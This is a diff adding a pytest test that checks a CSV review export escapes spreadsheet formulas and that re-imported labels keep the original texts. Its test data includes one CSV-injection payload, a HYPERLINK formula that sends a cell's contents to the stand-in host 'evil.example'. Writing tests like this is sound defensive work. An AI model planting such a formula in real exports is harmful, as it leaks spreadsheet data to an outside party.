@@ -8,9 +8,11 @@ import pandas as pd
 import pytest
 
 from slmops.tasks.core.config import parse_params
+from slmops.tasks.data.dataset import LabeledPaths, escape_formula
 from slmops.tasks.feedback.review import export_review
 from slmops.tasks.feedback.store import FeedbackStore, NewPrediction
 from slmops.tasks.labels.sources import NO_ANNOTATIONS_ONLY_PREDICTIONS, read_votes
+from slmops.tasks.pipeline.prepare import import_labels
 from slmops.tasks.task_types import LABEL_FORMATS, task_type
 
 SEQUENCE = task_type("sequence_classification")
@@ -76,6 +78,7 @@ def test_csv_export_leaves_the_label_for_the_reviewer(params, tmp_path):
         "confidence",
         "model_version",
         "label",
+        "formula_escape",
     ]
     assert frame.loc[0, "text"] == "top up did not work" and frame.loc[0, "label"] == ""
     frame.loc[0, "label"] = "top_up_failed"
@@ -84,3 +87,38 @@ def test_csv_export_leaves_the_label_for_the_reviewer(params, tmp_path):
     assert votes[["text", "label"]].values.tolist() == [["top up did not work", "top_up_failed"]]
     with pytest.raises(ValueError, match="expected 'label-studio' or 'csv'"):
         export_review(params, out, fmt="xml")  # type: ignore[arg-type]
+
+
+# Texts a client could send to /predict that a spreadsheet would run, and genuine ones
+# that merely look like it: the export must not run them, the import must not change them.
+RISKY = [
+    ('=HYPERLINK("https://evil.example/?d="&A1,"click")', "card_arrival"),
+    ("-5 on my balance?", "exchange_rate"),
+    ("+44 7700 900123 is my number, card not here", "card_arrival"),
+    ("@bank my card was stolen", "lost_or_stolen_card"),
+    ("'=this one starts with a quote", "exchange_rate"),
+]
+
+
+def test_csv_export_escapes_formulas_and_the_import_gives_the_texts_back(tiny_params):
+    with FeedbackStore.from_params(tiny_params) as store:
+        store.log_predictions(
+            [NewPrediction(t, "card_arrival", 0.1, [], "slmops-intent", "2") for t, _ in RISKY]
+        )
+    out = tiny_params.path("review.csv")
+    assert export_review(tiny_params, out, fmt="csv") == len(RISKY)
+
+    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
+    # Nothing a spreadsheet would run as a formula, in any cell.
+    assert not [v for v in frame.to_numpy().ravel() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'-5 on my balance?" in frame["text"].tolist()
+    assert set(frame["formula_escape"]) == {"quote"}
+
+    # The reviewer fills the label column and saves the file; it comes back.
+    frame["label"] = frame["text"].map({escape_formula(t): label for t, label in RISKY})
+    frame.to_csv(out, index=False)
+    summary = import_labels(out, tiny_params, version=False)
+    assert summary.added == len(RISKY), summary.problems
+    labeled = pd.read_csv(LabeledPaths(tiny_params).labeled, dtype=str, keep_default_na=False)
+    imported = labeled[labeled["source"] == "import"]
+    assert sorted(zip(imported["text"], imported["label"], strict=True)) == sorted(RISKY)
